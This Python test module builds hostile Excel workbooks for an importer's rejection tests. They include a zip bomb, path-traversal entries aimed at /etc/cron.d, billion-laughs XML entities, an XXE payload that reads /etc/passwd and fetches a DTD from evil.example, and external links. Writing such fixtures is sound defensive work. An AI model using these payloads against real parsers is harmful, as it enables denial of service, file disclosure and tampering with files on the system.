"""Workbooks that attack their reader, each with what must become of it."""

import zipfile

from tests.corpora.formulas import FORMULAS
from tests.corpora.packages import MAIN, Entry, entry, parts, raw_zip, relation, repeated, table, text_cell, workbook, zipped

HEADER = ["sku", "marketplace", "asin", "title"]
PRODUCT = ["AB-1", "amazon_de", "B000000001", "Box"]
PRODUCTS = table([HEADER, PRODUCT])
_SHEETS = {"Products": PRODUCTS}
_LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
) + "]>"  # fmt: skip
_EXTERNAL = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY % b SYSTEM "http://evil.example/x.dtd"> %b;]>'


def _sheet(content, prolog=""):
    return f'{prolog}<worksheet xmlns="{MAIN}"><sheetData>{content}</sheetData></worksheet>'


def _with_sheet(content):
    return zipped(parts(_SHEETS) | {"xl/worksheets/sheet1.xml": content})


def _entries():
    return [entry(name, content.encode()) for name, content in parts(_SHEETS).items()]


def _bomb():
    packed = repeated(b"<c/>" * 250_000, 300, _sheet("<row>").removesuffix("</sheetData></worksheet>").encode())
    others = [each for each in _entries() if "sheet1" not in each.name]
    return raw_zip([*others, Entry("xl/worksheets/sheet1.xml", packed, 300_000_000)])


def _lying():
    """A part that declares a tenth of what it holds."""
    honest = _entries()
    size = honest[3].declared
    return raw_zip([each._replace(declared=size // 10) if each is honest[3] else each for each in honest])


def _broken_part():
    content = workbook(_SHEETS)
    at = content.index(b"xl/worksheets/sheet1.xml") + 40
    return content[:at] + bytes(byte ^ 0xFF for byte in content[at : at + 30]) + content[at + 30 :]


def _far_row():
    cells = "".join(text_cell(text, f"{column}1048576") for column, text in zip("ABCD", ["AB-2", *PRODUCT[1:]], strict=True))
    return workbook({"Products": PRODUCTS + f'<row r="1048576">{cells}</row>'})


def _external_links():
    related = relation(9, "externalLink", "externalLinks/externalLink1.xml")
    link = '<externalLink><externalBook r:id="rId1"/></externalLink>'
    target = relation(1, "externalLinkPath", "http://evil.example/book.xlsx", ' TargetMode="External"')
    found = parts(_SHEETS)
    listing = found["xl/_rels/workbook.xml.rels"].replace("</Rel", related + "</Rel")
    return zipped(
        found
        | {
            "xl/_rels/workbook.xml.rels": listing,
            "xl/externalLinks/externalLink1.xml": link.replace("<externalLink>", f'<externalLink xmlns:r="{MAIN}">'),
            "xl/externalLinks/_rels/externalLink1.xml.rels": f"<Relationships>{target}</Relationships>",
        }
    )


def _merged():
    ranges = "".join(f'<mergeCell ref="F{row}:H{row}"/>' for row in range(1, 10_001))
    return workbook(_SHEETS, after=f'<mergeCells count="10000">{ranges}</mergeCells>')


def _styles(count):
    formats = "".join(f'<numFmt numFmtId="{200 + n}" formatCode="[$-804]0.{"0" * (n % 30)}"/>' for n in range(count // 50))
    styles = '<xf numFmtId="0"/>' * count
    return workbook(_SHEETS, styles=f"<numFmts>{formats}</numFmts><cellXfs>{styles}</cellXfs>")


def _formulas():
    rows = [[f"F-{number}", "amazon_de", "B000000001", text] for number, text in enumerate(FORMULAS)]
    return workbook({"Products": table([HEADER, *rows])})


# Name, bytes, and the refusals that may answer; none of them: the file is imported.
WORKBOOKS = [
    ("ratio.xlsx", _bomb, ["file_inflates"]),
    ("entries.xlsx", lambda: raw_zip([Entry(f"xl/{n}", b"", 0, 0, 0) for n in range(100_000)]), ["file_too_many_parts"]),
    ("overlapping.xlsx", lambda: raw_zip(_entries(), shared=True), ["file_overlapping_parts"]),
    ("same_name.xlsx", lambda: raw_zip([*_entries(), *_entries()]), ["file_overlapping_parts"]),
    ("nested.xlsx", lambda: workbook(_SHEETS, more={"xl/media/x.bin": workbook(_SHEETS)}), ["file_nested"]),
    ("traversal.xlsx", lambda: workbook(_SHEETS, more={"../../etc/cron.d/x": "x"}), ["file_leads_outside"]),
    ("traversal_windows.xlsx", lambda: raw_zip([*_entries(), entry("xl\\..\\..\\x", b"x")]), ["file_leads_outside"]),
    ("absolute.xlsx", lambda: raw_zip([*_entries(), entry("/etc/x", b"x")]), ["file_leads_outside"]),
    ("truncated.xlsx", lambda: workbook(_SHEETS)[:-200], ["file_cut_off"]),
    ("head_only.xlsx", lambda: b"PK\x03\x04", ["file_cut_off"]),
    ("wrong_bytes.xlsx", _broken_part, ["file_damaged_part"]),
    ("lying_size.xlsx", _lying, ["file_damaged_part"]),
    ("password.xlsx", lambda: raw_zip([each._replace(flags=1) for each in _entries()]), ["file_encrypted"]),
    ("bzip2.xlsx", lambda: zipped(parts(_SHEETS), zipfile.ZIP_BZIP2), ["file_damaged_part"]),
    ("no_content_types.xlsx", lambda: zipped({"xl/workbook.xml": "<workbook/>"}), ["file_damaged_part"]),
    ("no_sheet.xlsx", lambda: zipped({n: c for n, c in parts(_SHEETS).items() if "sheet1" not in n}), ["file_damaged_part"]),
    ("far_cell.xlsx", lambda: workbook({"Products": PRODUCTS + f"<row>{text_cell('x', 'XFD3')}</row>"}), ["file_too_wide"]),
    ("far_blank_cell.xlsx", lambda: workbook({"Products": PRODUCTS + '<row><c r="XFD3" s="1"/></row>'}), []),
    ("far_row.xlsx", _far_row, []),
    ("long_cell.xlsx", lambda: workbook({"Products": table([HEADER, ["x" * 1_000_001]])}), ["file_long_cell"]),
    ("merged.xlsx", _merged, []),
    ("many_sheets.xlsx", lambda: workbook({f"S{n}": PRODUCTS for n in range(1_000)}), ["file_too_many_sheets"]),
    ("many_styles.xlsx", lambda: _styles(60_000), []),
    ("styles_bomb.xlsx", lambda: _styles(400_000), ["file_damaged_part"]),
    ("laughs_in_texts.xlsx", lambda: zipped(parts(_SHEETS, strings="<si/>") | {
        "xl/sharedStrings.xml": f'{_LAUGHS}<sst xmlns="{MAIN}"><si><t>&j;</t></si></sst>'}), ["file_document_type"]),
    ("laughs_in_sheet.xlsx", lambda: _with_sheet(_sheet("<row><c><v>&j;</v></c></row>", _LAUGHS)), ["file_document_type"]),
    ("laughs_in_utf16.xlsx", lambda: _with_sheet(_sheet(PRODUCTS, _LAUGHS).encode("utf-16")), ["file_document_type"]),
    ("external_entity.xlsx", lambda: _with_sheet(_sheet("<row><c><v>&a;</v></c></row>", _EXTERNAL)), ["file_document_type"]),
    ("external_entity_in_listing.xlsx", lambda: workbook(_SHEETS, more={
        "docProps/app.xml": f"<!-- x -->\n{_EXTERNAL}<a>&a;</a>"}), ["file_document_type"]),
    ("undeclared_entity.xlsx", lambda: _with_sheet(_sheet("<row><c><v>&j;</v></c></row>")), ["file_damaged_part"]),
    ("external_links.xlsx", _external_links, []),
    ("macros.xlsm", lambda: workbook(_SHEETS, more={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1macro"}), []),
    ("formulas.xlsx", _formulas, []),
]  # fmt: skip
